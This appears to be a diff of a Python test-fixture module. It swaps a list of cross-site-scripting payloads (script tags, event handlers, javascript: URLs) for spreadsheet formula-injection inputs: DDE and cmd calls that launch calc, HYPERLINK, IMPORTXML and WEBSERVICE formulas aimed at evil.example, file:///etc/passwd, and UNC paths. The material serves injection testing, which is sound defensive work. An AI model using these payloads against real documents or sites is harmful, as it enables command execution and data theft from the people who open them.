@@ -1,40 +1,19 @@
-"""Texts that would run a script if any page took them for anything but text; each would set `window.HIT`."""
+"""Texts that an office program might take for a formula, a link or a field."""
 
 from __future__ import annotations
 
-BREAKOUTS = ("", '">', "'>", "</script></title></style></textarea>", "--></svg>")
+_CORES = (
+    "1+1", "SUM(A1:A9)", "cmd|'/c calc'!A1", 'HYPERLINK("http://evil.example","x")',
+    'DDE("cmd";"/c calc";"x")', 'IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example")',
+)  # fmt: skip
+_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
 
-VECTORS = (
-    "<script>window.HIT=1</script>",
-    "<img src=x onerror=window.HIT=1>",
-    "<svg onload=window.HIT=1>",
-    "<body onload=window.HIT=1>",
-    "<iframe srcdoc='<script>parent.HIT=1</script>'></iframe>",
-    "<iframe src=javascript:parent.HIT=1></iframe>",
-    "<details open ontoggle=window.HIT=1>x</details>",
-    "<input autofocus onfocus=window.HIT=1>",
-    "<video><source onerror=window.HIT=1></video>",
-    "<audio src=x onerror=window.HIT=1>",
-    "<marquee onstart=window.HIT=1>x</marquee>",
-    "<object data='data:text/html,<script>parent.HIT=1</script>'></object>",
-    "<embed src=javascript:window.HIT=1>",
-    "<a href=javascript:window.HIT=1>x</a>",
-    "<math><mtext><style><img src onerror=window.HIT=1></style></mtext></math>",
-    "<template><script>window.HIT=1</script></template>",
-    "<style>@import 'http://example.test/x.css';</style>",
-    "<link rel=stylesheet href=http://example.test/x.css>",
-    "<meta http-equiv=refresh content='0;url=javascript:window.HIT=1'>",
-    "<base href=http://example.test/>",
-    "<form action=javascript:window.HIT=1><button autofocus>x</button></form>",
-    "<svg><animate onbegin=window.HIT=1 attributeName=x dur=1s></svg>",
-    "<svg><foreignObject><img src onerror=window.HIT=1></foreignObject></svg>",
-    "<noscript><p title='</noscript><img src onerror=window.HIT=1>'>",
-    "javascript:window.HIT=1//",
-    "{{constructor.constructor('window.HIT=1')()}}${window.HIT=1}<%= 7*7 %>",
-    "\\u003cscript>window.HIT=1\\u003c/script>\\x3cimg src onerror=window.HIT=1>",
-    "&lt;script&gt;window.HIT=1&lt;/script&gt;&#60;img src onerror=window.HIT=1&#62;",
-    "');window.HIT=1;//]);window.HIT=1;//",
-    '\u2028window.HIT=1//\u2029\\";window.HIT=1;//',
-)
-
-PAYLOADS = tuple(f"{breakout}{vector}" for vector in VECTORS for breakout in BREAKOUTS)
+PAYLOADS = (
+    *(start + core for start in _STARTS for core in _CORES),
+    *(f"{space}=1+1" for space in (" ", "\t", "\r", "\n", "\u3000", "\xa0", "\0")),
+    "{=1}", "=", "+", "-", "@", "=-1", "%=1", "'=1", '"=1', "=1;=2", "=A1\n=A2",
+    "http://evil.example", "https://evil.example/=1", "mailto:a@evil.example", "ftp://evil.example",
+    "file:///etc/passwd", "internal:Sheet1!A1", "external:\\\\evil\\share\\x.xlsx", "\\\\evil\\share",
+    "DDEAUTO c:\\\\windows\\\\cmd.exe", "MSEXCEL|'\\..\\..\\cmd.exe'!''", "{ DDE cmd }", "{ HYPERLINK evil }",
+    "_xlfn.SINGLE(A1)", "#REF!", "TRUE", "1E5",
+)  # fmt: skip
